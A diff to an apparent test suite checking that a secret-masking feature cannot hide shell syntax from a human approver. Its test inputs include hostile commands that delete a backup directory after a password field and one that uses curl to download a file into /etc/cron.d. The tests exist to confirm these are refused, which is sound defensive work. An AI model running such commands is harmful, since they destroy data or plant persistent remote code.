@@ -403,6 +403,8 @@ describe('what the approver is shown is what runs', () => {
     'mysql --password=abc&&rm -rf /var/lib/vz/dump',
     // the mask takes a quote away, so text that was quoted reads as the commands that were hidden
     "echo pass:x;rm${IFS}/var/lib/vz/dump;' ;$A;'",
+    // no control character at all: the mask ran over the URL and the output file
+    'curl -H X-API-Key:abc http://192.0.2.1/x -o /etc/cron.d/x',
   ])('hole: a secret\'s mask cannot hide shell syntax from the approver: `%s` is refused before any approval', async (command) => {
     const name = `red-mask-${++counter}`;
     const safe = await ts.createToken({ name, role: 'admin', mode: 'safe' });
@@ -425,7 +427,7 @@ describe('what the approver is shown is what runs', () => {
     expect(hiddenShellSyntax({ command: 'curl -u u:a\\;b http://x' }, { command: redactText('curl -u u:a\\;b http://x') })).toBeDefined();
     expect(hiddenShellSyntax({ command: "curl -u 'u:a;b' http://x | jq ." }, { command: redactText("curl -u 'u:a;b' http://x | jq .") })).toBeUndefined();
     expect(hiddenShellSyntax({ params: { password: 'a;b|c' } }, { params: { password: '[redacted]' } })).toBeUndefined();
-    expect(shellControls(`a ';' "$x" \\; b`)).toBe(`''"$"\\;`);
+    expect(shellControls(`a ';' "$x" \\; b`)).toBe(` '' "$" \\; `);
   });
 
   it('a secret masked on its own (quoted, or a word by itself) still goes to the approver', async () => {
